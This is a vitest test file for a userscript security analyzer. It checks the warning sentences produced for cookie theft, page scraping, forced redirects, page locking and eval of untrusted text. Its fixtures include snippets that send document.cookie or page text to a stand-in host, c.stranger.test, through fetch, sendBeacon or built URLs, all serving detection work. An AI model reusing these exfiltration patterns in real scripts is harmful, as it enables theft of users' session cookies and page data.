import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

const on = (body: string, ...more: string[]) => userscript(["match https://shop.example/*", ...more], body);

/** The sentences of one rule. */
function sentencesOf(type: string, code: string): readonly string[] {
	return analyzeScript({ code }).vulnerabilities.flatMap((found) => (found.type === type ? [found.description] : []));
}

describe("what a sentence about a path says", () => {
	const hops = (count: number) =>
		Array.from({ length: count }, (_, hop) => `function f${hop}(v) { return f${hop + 1}(v); }`).join("\n");
	const through = (count: number, data: string) =>
		on(`${hops(count)}\nfunction f${count}(v) { navigator.sendBeacon("https://c.stranger.test/", v); }\nf0(${data});`);

	test("a short path is stated", () => {
		expect(sentencesOf("page-scraping", through(1, "document.body.innerText"))).toEqual([
			"Content of the page is sent to c.stranger.test by navigator.sendBeacon, without being asked (body .innerText).",
		]);
	});

	test.each([
		["page-scraping", "document.body.innerText"],
		["history-tracking", "location.href"],
	])("a path of %s that is cut off is not told", (type, data) => {
		expect(sentencesOf(type, through(9, data))).toEqual([]);
	});

	test("of a secret it is told as a possibility", () => {
		expect(sentencesOf("cookie-exfiltration", through(9, "document.cookie"))).toEqual([
			"The site's cookies are possibly sent to c.stranger.test by navigator.sendBeacon, without being asked (document.cookie): the way there is long.",
		]);
	});
});

describe("a function whose code is not here", () => {
	test.each([
		["an address and data", 'page.tools.post("https://n.stranger.test/rates", { at: document.title });'],
		["options with an address", 'page.tools({ url: "https://n.stranger.test/rates", at: document.title });'],
		["a text that begins with an address", 'page.tools.tell(1, "https://n.stranger.test/?" + document.title);'],
	])("that gets %s is not said to contact the server", (_title, body) => {
		expect(sentencesOf("undeclared-contact", on(body))).toEqual([
			"Gives an address of n.stranger.test to a function whose code is not here, which may contact it, by itself.",
		]);
	});

	test.each([
		["an attribute of an element", 'page.part.setAttribute("href", "https://n.stranger.test/?" + document.title);'],
		["a list", 'page.list.push("https://n.stranger.test/?" + document.title, document.title);'],
		["a console", 'page.out.log("https://n.stranger.test/?" + document.title, document.title);'],
	])("is none when it only fills %s", (_title, body) => {
		expect(sentencesOf("undeclared-contact", on(body))).toEqual([]);
	});

	test("still counts when it is given a secret in a stranger's address", () => {
		const code = on('page.part.setAttribute("data-url", "https://c.stranger.test/?" + document.cookie);');
		expect(sentencesOf("cookie-exfiltration", code)).toEqual([
			"The site's cookies are possibly sent to c.stranger.test, without being asked (document.cookie): a function whose code is not here gets both, the data and the address.",
		]);
	});

	test("is not what sets a property", () => {
		const code = on('document.body.later = "https://c.stranger.test/?" + document.cookie;');
		expect(sentencesOf("cookie-exfiltration", code)).toEqual([
			"The site's cookies are possibly sent to c.stranger.test, without being asked (document.cookie): an address with the data in it is put into a property whose effect is not known.",
		]);
	});
});

describe("a variable of the page whose name is put together", () => {
	const named = 'const page = window[prompt("name")];\n';

	test.each([
		["a text", 'page.context.tags.replace("a", "b");'],
		["a list", 'page.items.split(";").join(",");'],
		["a number", "page.total.toFixed(2);"],
		["a list of anything", "page.parts.filter((part) => part.on).forEach((part) => part);"],
	])("is not called when it is used as %s", (_title, body) => {
		expect(sentencesOf("unresolved-access", on(named + body))).toEqual([]);
	});

	test("is called by a method of its own", () => {
		expect(sentencesOf("unresolved-access", on(`${named}page.send(document.title);`))).toEqual([
			"Calls a function of the page or the browser that the check could not determine.",
		]);
		expect(sentencesOf("unresolved-access", on(`${named}page.replace("https://c.stranger.test/");`))).toHaveLength(1);
	});

	test("may keep what has no effect, and not what a browser would open", () => {
		expect(sentencesOf("unresolved-access", on(`${named}page.next = { on: true };`))).toEqual([]);
		expect(sentencesOf("unresolved-access", on(`${named}page.href = "https://c.stranger.test/";`))).toEqual([
			"Sets a property of an object of the page that the check could not determine.",
		]);
		expect(sentencesOf("unresolved-access", on(`${named}page.cookie = "a=1";`))).toHaveLength(1);
	});
});

describe("an address that the check could not determine", () => {
	test.each([
		["Opens a page at", "window.open(page.next)"],
		["Loads a picture from", "new Image().src = page.next"],
		["Sends a request to", "fetch(page.next)"],
		["Leaves the page for", "location.href = page.next"],
	])("%s it", (what, body) => {
		const [sentence] = sentencesOf("unresolved-access", on(`${body};`));
		expect(sentence).toMatch(new RegExp(`^${what} an address that the check could not determine \\(`));
	});
});

describe("two facts in one sentence", () => {
	test("have a path to the place of the first one", () => {
		const code = on('const own = navigator.clipboard.readText();\nfetch("https://n.stranger.test/?" + page.word);');
		const found = analyzeScript({ code }).vulnerabilities.find(({ type }) => type === "capability-pair");
		expect(found?.description).toBe(
			"Reads navigator.clipboard and sends requests to n.stranger.test; whether the data is in them is not known.",
		);
		expect(found?.path.map(({ line }) => line)).toEqual([5]);
	});

	test("are told of a receiver that only the skeptical run doubts", () => {
		const code =
			'let n = 0; [2,, 7].forEach(() => n++); fetch(JSON.parse(n === 2 ? \'{"to":"https://c.stranger.test/?"}\' : \'{"to":"/a?"}\').to + document.cookie);';
		expect(sentencesOf("capability-pair", code)).toHaveLength(1);
	});

	test("are not told of a request that has no room for data", () => {
		const code = on('const own = navigator.clipboard.readText();\nfetch("https://n.stranger.test/rates.json");');
		expect(sentencesOf("capability-pair", code)).toEqual([]);
	});
});

describe("a question of a dialog", () => {
	const leave = 'location.replace("https://r.stranger.test/");';

	test.each([
		["of a promise", `Swal.fire({ title: "Go?" }).then((result) => { if (result.isConfirmed) ${leave} });`],
		["that is awaited", `(async () => { const r = await Swal.fire("Go?"); if (r.isConfirmed) { ${leave} } })();`],
		["in a short form", `Swal.fire("Go?").then(({ isConfirmed }) => isConfirmed && ${leave.slice(0, -1)});`],
	])("%s is said to come before", (_title, body) => {
		expect(sentencesOf("forced-navigation", on(body))).toEqual([
			"Takes you to r.stranger.test when you agree in a dialog.",
		]);
		expect(sentencesOf("leads-away", on(body))).toEqual([
			"Takes you to r.stranger.test (location.replace), when you agree in a dialog.",
		]);
	});

	test.each([
		["a menu", 'add.registerMenuCommand("Help", () => LEAVE);'],
		["a button of a dialog", 'layer.open({ title: "Go?", yes: () => { LEAVE } });'],
	])("or %s does", (_title, body) => {
		const sentence = "Takes you to r.stranger.test (location.replace), when you choose it in a menu or a dialog.";
		const code = on(body.replace("LEAVE", leave.slice(0, -1)));
		expect(sentencesOf("leads-away", code)).toEqual([sentence]);
	});

	test.each([
		["an object of the script", `const own = { isConfirmed: true }; if (own.isConfirmed) ${leave}`],
		[
			"a promise without a dialog",
			`Promise.resolve({ isConfirmed: true }).then((r) => { if (r.isConfirmed) ${leave} });`,
		],
		["the visitor's refusal", `Swal.fire("Go?").then((r) => { if (!r.isConfirmed) ${leave} });`],
	])("is not %s", (_title, body) => {
		expect(sentencesOf("forced-navigation", on(body))).toEqual(["Takes you to r.stranger.test without being asked."]);
	});
});

describe("a function of the script that runs as text", () => {
	const head = "function main(info) { console.log(info); }\nconst info = { script: GM_info.script };\n";

	test.each([
		["eval", 'eval("(" + main + ")(" + JSON.stringify(info) + ")");'],
		["a template", `window.eval(${"`($"}{main.toString()})(1);${"`"});`],
		[
			"a script element",
			'const code = "(" + main + ")(" + JSON.stringify(info) + ");"; const s = document.createElement("script"); s.appendChild(document.createTextNode(code)); document.head.appendChild(s);',
		],
		[
			"a function's own name",
			'(function own(again) { if (!again) window.eval("(" + own.toString() + ")(true)"); })();',
		],
	])("by %s is known", (_title, body) => {
		expect(sentencesOf("unknown-code", on(head + body))).toEqual([]);
	});

	test.each([
		["a text beside it", 'eval("(" + main + ")(" + window.name + ")");'],
		["a text instead", "eval(window.name);"],
		["a function that answers a text of its own", 'main.toString = () => window.name; eval("(" + main + ")()");'],
		["another function of that name", '(function (main) { eval("(" + main + ")()"); })(window.name);'],
		[
			"values by a function that is not JSON's",
			'const it = { stringify: () => window.name }; eval("(" + main + ")(" + it.stringify() + ")");',
		],
		["a name that changes", 'let code = "(" + main + ")()"; code = window.name; eval(code);'],
	])("is not %s", (_title, body) => {
		expect(sentencesOf("unknown-code", on(head + body)).length).toBeGreaterThan(0);
	});
});

describe("what only the skeptical run finds of a flow", () => {
	test("is told with the doubt", () => {
		const code = on('const go = JSON.parse("false"); if (go) fetch("https://c.stranger.test/?" + document.cookie);');
		expect(sentencesOf("cookie-exfiltration", code)).toEqual([
			"The site's cookies are sent to c.stranger.test by fetch, without being asked (document.cookie), unless the values that the script computes rule it out.",
		]);
	});
});

describe("listeners for everything", () => {
	const stop = "const stop = (e) => { e.preventDefault(); e.stopPropagation(); };\n";

	test("block the page when one place adds them", () => {
		const body = `${stop}for (const name of ["keydown", "click", "wheel"]) document.addEventListener(name, stop, true);`;
		expect(sentencesOf("page-lock", on(body))).toHaveLength(1);
	});

	test("do not when a function adds what it is given", () => {
		const body = `${stop}function listen(el, events, fn) { for (const name of events.split(" ")) el.addEventListener(name, fn); }
listen(document, "keydown", stop); listen(document, "click", stop); listen(window, "wheel", stop);`;
		expect(sentencesOf("page-lock", on(body))).toEqual([]);
	});
});

describe("what a timer gets", () => {
	test("is a text only where something of it is known", () => {
		expect(sentencesOf("unknown-code", on("setInterval(page.list[page.at], 900);"))).toEqual([]);
		expect(sentencesOf("unknown-code", on('setTimeout("go(" + page.at + ")", 900);'))).toEqual([
			"Runs text as code by setTimeout that is not known before it runs.",
		]);
	});
});

describe("a function of the manager under a name of its own", () => {
	const gives = (assignment: string) =>
		on(`${assignment} = (details) => GM_xmlhttpRequest(details);`, "grant GM_xmlhttpRequest");

	test("stays in the script's own window", () => {
		expect(sentencesOf("privilege-leak", gives("ask"))).toEqual([]);
		expect(sentencesOf("privilege-leak", gives("window.ask"))).toEqual([]);
	});

	test("is given to the page through the page's window", () => {
		expect(sentencesOf("privilege-leak", gives("unsafeWindow.ask"))).toHaveLength(1);
		expect(sentencesOf("privilege-leak", gives("const page = unsafeWindow; page.ask"))).toHaveLength(1);
	});
});

describe("an address that is not written where it is used", () => {
	test("is not told of a function whose code is not here, unless a secret is with it", () => {
		const given = (data: string) =>
			on(`const all = { url: page.word ? "https://n.stranger.test/" : "", data: ${data} };\npage.tools.go(all);`);
		expect(sentencesOf("undeclared-contact", given("document.title"))).toHaveLength(1);
		const far = (data: string) => `function make() { return { url: "https://n.stranger.test/", data: ${data} }; }\n`;
		const used = "page.tools.go(make());";
		expect(sentencesOf("undeclared-contact", on(far("document.title") + used))).toEqual([]);
		expect(sentencesOf("page-scraping", on(far("document.body.innerText") + used))).toEqual([]);
		expect(sentencesOf("cookie-exfiltration", on(far("document.cookie") + used))).toHaveLength(1);
	});
});

describe("what would be no danger", () => {
	/** A look-up that shows what it finds, behind a number of functions. */
	function lookUp(hops: number): string {
		const chain = Array.from({ length: hops }, (_, hop) => `function f${hop}(v) { return f${hop + 1}(v); }`);
		const last = `function f${hops}(v) { fetch("https://n.stranger.test/?" + v).then((r) => r.text()).then(show); }`;
		return on([...chain, last, "f0(document.body.innerText);"].join("\n"));
	}

	test("is told when it is certain, and not when it is only possible", () => {
		expect(sentencesOf("page-scraping", lookUp(1))).toHaveLength(1);
		expect(sentencesOf("page-scraping", lookUp(4))).toEqual([]);
	});
});
